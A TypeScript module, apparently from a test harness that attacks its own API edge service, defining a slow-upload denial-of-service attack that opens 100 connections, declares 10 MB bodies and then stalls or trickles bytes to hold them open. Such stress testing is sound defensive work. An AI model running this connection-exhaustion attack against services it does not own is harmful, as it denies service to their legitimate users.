import type { StartAttack } from '../attack.js';
import { holdConnections } from '../hold-connections.js';
import { bearer, CHAT, postHead } from '../request-heads.js';

const CONNECTIONS = 60;
/** The largest body that a call may have. */
const BODY_BYTES = 10 * 1024 * 1024;
const PIECE_BYTES = 1024 * 1024;

/** What they leave of the room for bodies is taken by some that go on growing. */
const GROWING_CONNECTIONS = 40;
const GROWING = { bytes: Buffer.alloc(1024, ' '), everyMs: 100, bytesMax: BODY_BYTES - 1 };

/** Uploads of the largest body with the attacker's own key: all but the last byte at once and then silence, or slowly. */
export const stalledUploads: StartAttack = ({ edgePort: port, secret }, bounds) => {
  const first = postHead(CHAT, bearer(secret), `content-length: ${BODY_BYTES}`);
  const then = { bytes: Buffer.alloc(PIECE_BYTES, ' '), everyMs: 0, bytesMax: BODY_BYTES - 1 };
  return holdConnections(
    [
      { port, connections: CONNECTIONS, first, then, reads: true },
      { port, connections: GROWING_CONNECTIONS, first, then: GROWING, reads: true },
    ],
    bounds,
  );
};
